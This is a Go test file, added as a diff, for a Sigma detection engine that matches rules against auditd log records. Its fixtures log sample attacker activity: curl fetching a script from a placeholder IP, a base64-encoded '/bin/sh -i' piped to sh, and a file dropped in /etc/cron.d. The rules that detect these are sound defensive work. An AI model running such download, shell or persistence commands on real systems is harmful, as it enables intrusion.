@@ -1,0 +1,156 @@
+package sigma
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/audisp-enrich/audisp-enrich/plugin/audit"
+)
+
+// An exec of "curl -o /tmp/x http://198.51.100.7/a.sh" by bash, ENRICHED
+// format (" @" starts the interpreted fields).
+const execCurl = `type=SYSCALL msg=audit(1795618621.766:293): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=4242 pid=4243 auid=1000 uid=0 gid=0 euid=33 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="susp_activity" @ARCH=x86_64 @SYSCALL=execve @AUID="alice" @UID="root" @EUID="www-data"
+type=EXECVE msg=audit(1795618621.766:293): argc=4 a0="curl" a1="-o" a2="/tmp/X" a3="http://198.51.100.7/a.sh"
+type=CWD msg=audit(1795618621.766:293): cwd="/home/Alice"
+type=PATH msg=audit(1795618621.766:293): item=0 name="/usr/bin/curl" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
+type=PROCTITLE msg=audit(1795618621.766:293): proctitle=6375726C002D6F
+`
+
+func TestAuditdRecordFields(t *testing.T) {
+	e := newTestEnricher(t,
+		rule("a1", "auditd", "    sel:\n        type: 'execve'\n        a0: curl\n        a1: '-o'\n    condition: sel\n"),
+		// one map must hold in one record: a0 is in EXECVE, exe in SYSCALL
+		rule("a2", "auditd", "    sel:\n        a0: curl\n        exe: /usr/bin/curl\n    condition: sel\n"),
+		// the combination of two selections on different records
+		rule("a3", "auditd", "    s1:\n        type: EXECVE\n        a0: curl\n    s2:\n        type: SYSCALL\n        SYSCALL: execve\n        euid: 33\n    condition: s1 and s2\n"),
+		rule("a4", "auditd", "    sel:\n        key: susp_activity\n    condition: sel\n"),
+		rule("a5", "auditd", "    sel:\n        type: PATH\n        name|endswith: /curl\n    condition: sel\n"),
+		// ENRICHED names and case-insensitive values
+		rule("a6", "auditd", "    sel:\n        UID: ROOT\n        EUID: www-data\n    condition: sel\n"),
+		rule("a7", "auditd", "    sel:\n        type: CWD\n        cwd|cased: /home/alice\n    condition: sel\n"),
+		rule("a8", "auditd", "    sel:\n        type: CWD\n        cwd: /home/alice\n    condition: sel\n"),
+		// keyword search across records and the command line
+		rule("a9", "auditd", "    keywords:\n        - '-o /tmp/x'\n    condition: keywords\n"),
+		rule("a10", "auditd", "    keywords:\n        '|all':\n            - curl\n            - 198.51.100\n    condition: keywords\n"),
+		rule("a11", "auditd", "    keywords:\n        '|all':\n            - curl\n            - wget\n    condition: keywords\n"),
+		rule("a12", "auditd", "    sel:\n        type: EXECVE\n        a4: null\n    condition: sel\n"),
+		rule("a13", "auditd", "    sel:\n        type: EXECVE\n        a3|exists: true\n    condition: sel\n"),
+		rule("a14", "auditd", "    sel:\n        type: EXECVE\n        a4|exists: true\n    condition: sel\n"),
+		rule("a15", "auditd", "    sel:\n        type: SYSCALL\n        euid|lt: 100\n        pid|gte: 4243\n    condition: sel\n"),
+		rule("a16", "auditd", "    sel:\n        type: SYSCALL\n        euid|gt: 33\n    condition: sel\n"),
+	)
+	got := matched(t, e, eventOf(t, execCurl))
+	want := []string{"a1", "a3", "a4", "a5", "a6", "a8", "a9", "a10", "a12", "a13", "a15"}
+	if !slices.Equal(got, want) {
+		t.Errorf("matched %v, want %v", got, want)
+	}
+}
+
+func TestProcessCreation(t *testing.T) {
+	ev := eventOf(t, execCurl)
+	ev.Parent = &audit.Process{PID: 4242, Executable: "/usr/bin/bash", Args: []string{"bash", "-c", "curl -o /tmp/x"}}
+	e := newTestEnricher(t,
+		rule("p1", "process_creation", "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains|all:\n            - ' -o '\n            - 'http://'\n    condition: sel\n"),
+		rule("p2", "process_creation", "    sel:\n        ParentImage|endswith: /bash\n        ParentCommandLine|contains: '-c curl'\n    condition: sel\n"),
+		rule("p3", "process_creation", "    sel:\n        User: root\n        LogonId: 1000\n        CurrentDirectory: /home/alice\n        ProcessId: 4243\n        ParentProcessId: 4242\n    condition: sel\n"),
+		rule("p4", "process_creation", "    sel:\n        Image|endswith: '/wget'\n    filter:\n        CommandLine|contains: x\n    condition: not sel and not filter\n"),
+		rule("p5", "process_creation", "    sel:\n        Image|endswith: '/wget'\n    filter:\n        CommandLine|contains: zzz\n    condition: not (sel or filter)\n"),
+		rule("p6", "process_creation", "    sel:\n        CommandLine|re: 'http://\\d+\\.\\d+'\n    condition: sel\n"),
+		rule("p7", "process_creation", "    sel:\n        CommandLine|re: 'HTTP://'\n    condition: sel\n"),
+		rule("p8", "process_creation", "    sel:\n        CommandLine|re|i: 'HTTP://'\n    condition: sel\n"),
+		rule("p9", "process_creation", "    sel:\n        CommandLine: 'curl ?o /tmp/*/a.sh'\n    condition: sel\n"),
+		rule("p10", "process_creation", "    sel:\n        CommandLine: 'curl ?o /tmp/\\*'\n    condition: sel\n"),
+		rule("p11", "process_creation", "    sel_a:\n        Image: /usr/bin/nope\n    sel_b:\n        Image: /usr/bin/curl\n    condition: 1 of sel_*\n"),
+		rule("p12", "process_creation", "    sel_a:\n        Image: /usr/bin/nope\n    sel_b:\n        Image: /usr/bin/curl\n    condition: all of sel_*\n"),
+		rule("p13", "process_creation", "    sel_a:\n        Image|startswith: /usr/\n    _x:\n        Image: /nope\n    condition: all of them\n"),
+		rule("p14", "process_creation", "    sel:\n        - Image: /nope\n        - CommandLine|endswith: a.sh\n    condition: sel\n"),
+		rule("p15", "process_creation", "    sel:\n        CommandLine|windash|contains: ' /o '\n    condition: sel\n"),
+		rule("p16", "process_creation", "    sel:\n        Image|neq: /usr/bin/curl\n    condition: sel\n"),
+	)
+	got := matched(t, e, ev)
+	want := []string{"p1", "p2", "p3", "p5", "p6", "p8", "p9", "p11", "p13", "p14", "p15"}
+	if !slices.Equal(got, want) {
+		t.Errorf("matched %v, want %v", got, want)
+	}
+	// Not an exec: process_creation rules do not run.
+	nonExec := eventOf(t, strings.Replace(execCurl, "syscall=59", "syscall=2", 1))
+	nonExec.Records[0].Interp[1].Value = "open"
+	if got := matched(t, e, nonExec); len(got) != 0 {
+		t.Errorf("non-exec event matched %v", got)
+	}
+}
+
+func TestBase64AndCIDR(t *testing.T) {
+	// echo 'L2Jpbi9zaCAtaQ==' | base64 -d: "/bin/sh -i"; the offset forms
+	// find "sh -i" inside it.
+	ev := eventOf(t, `type=SYSCALL msg=audit(1795618621.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="bash" exe="/usr/bin/bash" key=(null)
+type=EXECVE msg=audit(1795618621.100:7): argc=3 a0="bash" a1="-c" a2="echo L2Jpbi9zaCAtaQ== | base64 -d | sh"`)
+	e := newTestEnricher(t,
+		rule("b1", "process_creation", "    sel:\n        CommandLine|base64|contains: '/bin/sh -i'\n    condition: sel\n"),
+		rule("b2", "process_creation", "    sel:\n        CommandLine|base64offset|contains: 'sh -i'\n    condition: sel\n"),
+		rule("b3", "process_creation", "    sel:\n        CommandLine|base64offset|contains: 'sh -x'\n    condition: sel\n"),
+		// base64 is case-sensitive even without cased
+		rule("b4", "process_creation", "    sel:\n        CommandLine|base64|contains: '/BIN/sh -i'\n    condition: sel\n"),
+	)
+	if got, want := matched(t, e, ev), []string{"b1", "b2"}; !slices.Equal(got, want) {
+		t.Errorf("matched %v, want %v", got, want)
+	}
+
+	conn := `type=SYSCALL msg=audit(1795618621.100:8): arch=c000003e syscall=42 success=yes exit=0 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="bash" exe="/usr/bin/bash" key=(null) @SYSCALL=connect
+type=SOCKADDR msg=audit(1795618621.100:8): saddr=02001F90C63364070000000000000000`
+	e = newTestEnricher(t,
+		rule("n1", "network_connection", "    sel:\n        Initiated: 'true'\n        Image|endswith: /bash\n        DestinationPort: 8080\n    filter:\n        DestinationIp|cidr:\n            - 127.0.0.0/8\n            - 10.0.0.0/8\n    condition: sel and not filter\n"),
+		rule("n2", "network_connection", "    sel:\n        DestinationIp|cidr: 198.51.100.0/24\n    condition: sel\n"),
+		rule("n3", "network_connection", "    sel:\n        DestinationIp|cidr: 10.0.0.0/8\n    condition: sel\n"),
+	)
+	if got, want := matched(t, e, eventOf(t, conn)), []string{"n1", "n2"}; !slices.Equal(got, want) {
+		t.Errorf("matched %v, want %v", got, want)
+	}
+}
+
+func TestFileEvent(t *testing.T) {
+	ev := eventOf(t, `type=SYSCALL msg=audit(1795618621.100:9): arch=c000003e syscall=257 success=yes exit=3 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="tee" exe="/usr/bin/tee" key=(null) @SYSCALL=openat
+type=CWD msg=audit(1795618621.100:9): cwd="/etc"
+type=PATH msg=audit(1795618621.100:9): item=0 name="/etc/cron.d/" nametype=PARENT
+type=PATH msg=audit(1795618621.100:9): item=1 name="cron.d/evil" nametype=CREATE`)
+	e := newTestEnricher(t,
+		rule("f1", "file_event", "    sel:\n        TargetFilename|startswith: /etc/cron.d/\n        Image: /usr/bin/tee\n    condition: sel\n"),
+		rule("f2", "file_event", "    sel:\n        TargetFilename|startswith: /etc/cron.d/\n    filter:\n        Image: /usr/bin/tee\n    condition: sel and not filter\n"),
+	)
+	if got, want := matched(t, e, ev), []string{"f1"}; !slices.Equal(got, want) {
+		t.Errorf("matched %v, want %v", got, want)
+	}
+}
+
+func TestHitOutput(t *testing.T) {
+	e := newTestEnricher(t, rule("o1", "auditd", "    sel:\n        a0: curl\n    condition: sel\n"))
+	ev := eventOf(t, execCurl)
+	ev.Severity = 1
+	matched(t, e, ev)
+	if len(ev.Sigma) != 1 {
+		t.Fatalf("hits %v", ev.Sigma)
+	}
+	h := ev.Sigma[0]
+	if h.ID != "o1" || h.Title != "Test o1" || h.Level != "high" || h.Author != "Tester" ||
+		!slices.Equal(h.Tags, []string{"attack.execution", "attack.t1059.004"}) {
+		t.Errorf("hit %+v", h)
+	}
+	if ev.Severity != 3 {
+		t.Errorf("severity %d, want 3 (high)", ev.Severity)
+	}
+	if len(ev.Techniques) != 1 || ev.Techniques[0].ID != "T1059.004" || ev.Techniques[0].Source != "sigma:o1" {
+		t.Errorf("techniques %+v", ev.Techniques)
+	}
+	if !slices.Contains(ev.Tags, "sigma:o1") || !slices.Contains(ev.Tags, "sigma_level:high") {
+		t.Errorf("tags %v", ev.Tags)
+	}
+	var enc audit.JSONEncoder
+	out := string(enc.Append(nil, ev))
+	for _, want := range []string{`"sigma":[{"id":"o1","title":"Test o1","level":"high","author":"Tester","tags":["attack.execution","attack.t1059.004"]}]`,
+		`"T1059.004"`} {
+		if !strings.Contains(out, want) {
+			t.Errorf("JSON lacks %s:\n%s", want, out)
+		}
+	}
+}
